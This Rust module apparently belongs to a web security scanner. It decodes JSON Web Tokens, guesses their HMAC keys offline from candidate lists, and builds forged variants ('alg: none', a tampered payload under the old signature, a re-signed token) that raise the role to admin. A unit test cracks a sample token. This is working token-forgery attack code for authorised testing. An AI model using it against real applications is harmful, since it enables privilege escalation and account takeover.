//! JSON Web Tokens the app hands out: decoded, their HMAC key guessed offline, and
//! variants (`alg: none`, a changed payload with the old signature, an expired token)
//! replayed against the endpoints the token unlocks.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use hmac::{Hmac, Mac};
use serde_json::{Value, json};

/// A decoded JWT (JWS compact form).
#[derive(Clone, Debug)]
pub struct Jwt {
    pub header: Value,
    pub payload: Value,
    signing_input: String,
    signature: Vec<u8>,
}

/// Whether a string has the shape of a JWT (three base64url parts, a JSON header).
pub fn looks_like_jwt(s: &str) -> bool {
    s.starts_with("eyJ") && Jwt::decode(s).is_some()
}

/// JWT-shaped strings in a text (JSON bodies), at most `max`.
pub fn find_jwts(text: &str, max: usize) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(pos) = rest.find("eyJ") {
        let tail = &rest[pos..];
        let end = tail
            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')))
            .unwrap_or(tail.len());
        let token = &tail[..end];
        if looks_like_jwt(token) && !out.iter().any(|t| t == token) {
            out.push(token.to_string());
            if out.len() >= max {
                break;
            }
        }
        rest = &tail[end.max(3)..];
    }
    out
}

fn part(s: &str) -> Option<Value> {
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(s.trim_end_matches('=')).ok()?).ok()
}

fn enc(v: &Value) -> String {
    URL_SAFE_NO_PAD.encode(v.to_string().as_bytes())
}

impl Jwt {
    pub fn decode(token: &str) -> Option<Jwt> {
        let mut parts = token.split('.');
        let (h, p, s) = (parts.next()?, parts.next()?, parts.next()?);
        if parts.next().is_some() {
            return None;
        }
        let header = part(h)?;
        header.get("alg")?;
        Some(Jwt {
            header,
            payload: part(p)?,
            signing_input: format!("{h}.{p}"),
            signature: URL_SAFE_NO_PAD.decode(s.trim_end_matches('=')).ok()?,
        })
    }

    pub fn alg(&self) -> &str {
        self.header.get("alg").and_then(Value::as_str).unwrap_or("")
    }

    /// The HMAC key, if it is one of `candidates` (offline: one HMAC per guess).
    pub fn crack<'c>(&self, candidates: impl Iterator<Item = &'c str>) -> Option<String> {
        let alg = self.alg().to_string();
        if !matches!(alg.as_str(), "HS256" | "HS384" | "HS512") {
            return None;
        }
        for c in candidates {
            if hmac(&alg, c.as_bytes(), self.signing_input.as_bytes()).as_deref()
                == Some(self.signature.as_slice())
            {
                return Some(c.to_string());
            }
        }
        None
    }

    /// A token with `payload`, signed with `secret` (same algorithm).
    pub fn sign(&self, payload: &Value, secret: &str) -> String {
        let input = format!("{}.{}", enc(&self.header), enc(payload));
        let sig = hmac(self.alg(), secret.as_bytes(), input.as_bytes()).unwrap_or_default();
        format!("{input}.{}", URL_SAFE_NO_PAD.encode(sig))
    }

    /// `alg: none` with `payload` and an empty signature.
    pub fn unsigned(&self, payload: &Value) -> String {
        let mut header = self.header.clone();
        header["alg"] = json!("none");
        format!("{}.{}.", enc(&header), enc(payload))
    }

    /// `payload` with the original header and signature (valid only if nobody checks).
    pub fn resigned_with_old_signature(&self, payload: &Value) -> String {
        let h = self.signing_input.split('.').next().unwrap_or("");
        format!(
            "{h}.{}.{}",
            enc(payload),
            URL_SAFE_NO_PAD.encode(&self.signature)
        )
    }

    /// The payload with privileges raised and the identity changed: what an attacker wants.
    pub fn tampered_payload(&self) -> Value {
        let mut p = self.payload.clone();
        if let Value::Object(map) = &mut p {
            map.insert("role".to_string(), json!("admin"));
            if map.contains_key("sub") {
                map.insert("sub".to_string(), json!("fg-probe-admin"));
            }
        }
        p
    }
}

fn hmac(alg: &str, key: &[u8], data: &[u8]) -> Option<Vec<u8>> {
    Some(match alg {
        "HS256" => {
            let mut m = Hmac::<sha2::Sha256>::new_from_slice(key).ok()?;
            m.update(data);
            m.finalize().into_bytes().to_vec()
        }
        "HS384" => {
            let mut m = Hmac::<sha2::Sha384>::new_from_slice(key).ok()?;
            m.update(data);
            m.finalize().into_bytes().to_vec()
        }
        "HS512" => {
            let mut m = Hmac::<sha2::Sha512>::new_from_slice(key).ok()?;
            m.update(data);
            m.finalize().into_bytes().to_vec()
        }
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    // PyJWT 2.15: jwt.encode({"sub": "alice", "exp": 2000000000}, "secret", algorithm="HS256")
    const TOKEN: &str = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbGljZSIsImV4cCI6MjAwMDAwMDAwMH0.qTpANITIBikvCWHriG_reTWn2gwgHNG8TAcPdoT9H7o";

    #[test]
    fn decode_crack_and_forge() {
        let t = Jwt::decode(TOKEN).expect("decodes");
        assert_eq!(t.alg(), "HS256");
        assert_eq!(t.payload["sub"], "alice");
        assert_eq!(
            t.crack(["nope", "secret"].into_iter()).as_deref(),
            Some("secret")
        );
        let forged = t.sign(&json!({"sub": "bob"}), "secret");
        let f = Jwt::decode(&forged).expect("forged decodes");
        assert_eq!(f.crack(["secret"].into_iter()).as_deref(), Some("secret"));
        assert!(Jwt::decode(&t.unsigned(&t.payload)).is_some());
        assert_eq!(
            find_jwts(&format!("{{\"access_token\": \"{TOKEN}\"}}"), 5),
            vec![TOKEN]
        );
        assert!(find_jwts("eyJ not a token", 5).is_empty());
    }
}
